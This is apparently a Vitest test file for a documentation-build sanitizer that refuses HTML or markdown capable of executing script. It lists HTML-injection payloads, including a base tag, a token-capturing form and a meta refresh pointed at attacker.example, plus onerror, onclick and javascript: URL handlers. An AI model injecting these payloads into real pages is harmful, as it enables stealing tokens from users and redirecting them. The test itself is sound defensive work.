import { expect, it } from 'vitest'
import { refuseHtml } from '../../scripts/docs/refuse-html.js'

/** What a description would do to the page, each by itself. */
const attacks = [
  '<base href="https://attacker.example/">',
  '<form action="https://attacker.example/"><input name="token"></form>',
  '<iframe srcdoc="<script>parent.document.title = \'taken\'</script>"></iframe>',
  '<meta http-equiv="refresh" content="0; url=https://attacker.example/">',
  '<img src="x" onerror="document.title = \'taken\'">',
  '<b onclick="document.title = \'taken\'">',
  '<a href="javascript:document.title = \'taken\'">x</a>',
  "[x](javascript:document.title='taken')",
]

it.each(attacks)('a description with what a page would carry out is refused: %s', (attack) => {
  const texts = [
    attack,
    `Text ${attack} text`,
    `- a list\n- ${attack}\n`,
    `| a |\n|-|\n| ${attack} |`,
  ]
  for (const description of texts) {
    const document = JSON.stringify({ paths: [{ description }] })
    expect(() => JSON.parse(document, refuseHtml) as unknown).toThrow(/would carry out/)
  }
})

it('a description keeps code, and what shapes a text', () => {
  const description =
    'Write `<base>` or:\n\n```html\n<form></form>\n```\n\n<code>create<wbr>Issuer</code> of [a](#b)'
  const document = { description, example: { value: attacks[0] } }
  expect(JSON.parse(JSON.stringify(document), refuseHtml)).toEqual(document)
})
